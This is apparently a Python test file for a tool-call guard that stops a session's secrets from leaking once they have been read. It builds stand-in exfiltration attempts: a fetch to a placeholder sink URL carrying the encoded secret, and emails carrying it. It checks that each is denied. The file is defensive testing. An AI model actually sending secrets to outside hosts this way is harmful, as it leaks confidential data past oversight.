"""What was read in confidence reaches no sink that nobody cleared: by matching, and where that fails by taint."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

from tests.harness import code_of, open_world

from toolward.lab.leaks.transforms import SEEN, UNSEEN

SECRET = "zx-81-7734-q"
FILES = {
    "tools/mail.yaml": """\
server: mail
tools:
  send: {effect: reversible, egress: true, arguments: {to: {role: authority, kind: address}, text: {role: content}}}
  fetch: {effect: read_only, egress: true, arguments: {url: {role: authority, kind: url}}}
"""
}

WARD = """\
version: 1
name: test
profile: guarded
servers:
  files: {command: never-started, roots: [/data], destinations: [example.org]}
  mail: {command: never-started, destinations: [example.org]}
"""


async def test_no_encoding_reaches_an_unknown_destination_after_the_read(tmp_path: Path) -> None:
    """One world for all, a session for each: opening a world is most of what a test of one would take."""
    async with open_world(tmp_path, files=FILES) as world:
        world.upstreams.answers["files/read_secret"] = f"the code is {SECRET}"
        for name, transform in {**SEEN, **UNSEEN}.items():
            url = f"https://sink.example/?q={quote(transform(SECRET), safe='')}"
            session = await world.session()
            control = await world.call(session, "mail/fetch", {"url": url})
            assert control.error is None, f"{name}: without a secret in the session it may be fetched"
            before = len(world.upstreams.ran)
            await world.call(session, "files/read_secret")
            assert code_of(await world.call(session, "mail/fetch", {"url": url})) == "denied", name
            assert [key for key, _, _ in world.upstreams.ran[before:]] == ["files/read_secret"], name


async def test_not_even_a_known_destination_receives_what_is_seen_through(tmp_path: Path) -> None:
    async with open_world(tmp_path, files={**FILES, "toolward.yaml": WARD}) as world:
        world.upstreams.answers["files/read_secret"] = f"the code is {SECRET}"
        for name, transform in SEEN.items():
            said = {"to": "olga@example.org", "text": transform(SECRET)}
            session = await world.session()
            await world.call(session, "files/read_secret")
            assert code_of(await world.call(session, "mail/send", said)) == "denied", name
        assert "mail/send" not in [key for key, _, _ in world.upstreams.ran]


async def test_a_confidential_session_may_still_say_other_things_to_a_known_destination(
    tmp_path: Path,
) -> None:
    """The control of the test above: it is the value that is stopped, not the session."""
    async with open_world(tmp_path, files={**FILES, "toolward.yaml": WARD}) as world:
        world.upstreams.answers["files/read_secret"] = f"the code is {SECRET}"
        session = await world.session()
        await world.call(session, "files/read_secret")
        reply = await world.call(session, "mail/send", {"to": "olga@example.org", "text": "see you at noon"})
        assert reply.error is None, reply.error
